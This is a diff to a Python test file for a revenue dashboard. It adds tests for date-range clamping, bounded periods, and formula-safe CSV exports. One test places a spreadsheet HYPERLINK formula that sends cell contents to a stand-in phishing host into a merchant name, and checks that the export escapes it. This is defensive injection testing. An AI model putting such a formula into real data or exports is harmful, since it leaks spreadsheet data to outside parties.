@@ -1,11 +1,15 @@
 """The Revenue page's view in the URL: read leniently, written minimally, the same view back."""
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
 import pytest
 
-from core.revenue.view import MAX_DAYS, RevenueView, chart_label
+from core.revenue.definitions import Measures
+from core.revenue.queries import EARLIEST, CohortCell, Period, Row
+from core.revenue.view import MAX_DAYS, RevenueView, chart_label, cohorts_csv, rows_csv
 
 TODAY = date(2025, 6, 15)
 
@@ -51,3 +55,32 @@ def test_bad_values_fall_back_to_defaults(params: dict) -> None:
 def test_merchant_names_in_charts_are_text(name: str) -> None:
     label = chart_label(name)
     assert "<" not in label and "\u202e" not in label and len(label) <= 60
+
+
+def test_dates_beyond_today_or_before_1970_are_cut_with_one_line() -> None:
+    """?to= a future date and ?from=0001-01-01 used to crash the page (date overflow, date_input bounds)."""
+    future = RevenueView.from_query_params({"from": "2025-06-01", "to": "9999-12-31"})
+    assert (future.period(TODAY).start, future.period(TODAY).end) == (date(2025, 6, 1), TODAY)
+    assert "9999-12-31" in (future.notice(TODAY) or "")
+    ancient = RevenueView.from_query_params({"from": "0001-01-01", "to": "0001-01-31"})
+    period = ancient.period(TODAY)
+    assert period.start >= EARLIEST and period.end >= period.start and period.previous().days == period.days
+    assert ancient.notice(TODAY) and len(ancient.notice(TODAY).splitlines()) == 1
+    assert RevenueView.from_query_params({"from": "2025-01-01", "to": "2025-03-31"}).notice(TODAY) is None
+
+
+def test_csvs_are_formula_safe() -> None:
+    """Every CSV goes through core/export: a merchant's name cannot become a spreadsheet formula."""
+    evil = '=HYPERLINK("https://phish.example/?d="&A1,"Refund")'
+    rows = [Row(keys={"merchant": "acct_1", "business_name": evil}, measures=Measures(currency="usd", gmv=-5))]
+    lines = list(csv.reader(io.StringIO(rows_csv(rows))))
+    assert lines[1][1] == "'" + evil and lines[1][4] == "-5"
+    cells = [CohortCell(cohort=date(2025, 1, 1), months=0, currency="usd", gmv=100, merchants=1)]
+    assert cohorts_csv(cells).splitlines() == ["cohort,months,currency,gmv,merchants", "2025-01-01,0,usd,100,1"]
+
+
+def test_a_period_is_bounded() -> None:
+    with pytest.raises(ValueError):
+        Period(start=date(9999, 12, 30), end=date(9999, 12, 31))
+    with pytest.raises(ValueError):
+        Period(start=date(1, 1, 1), end=date(1, 1, 31))
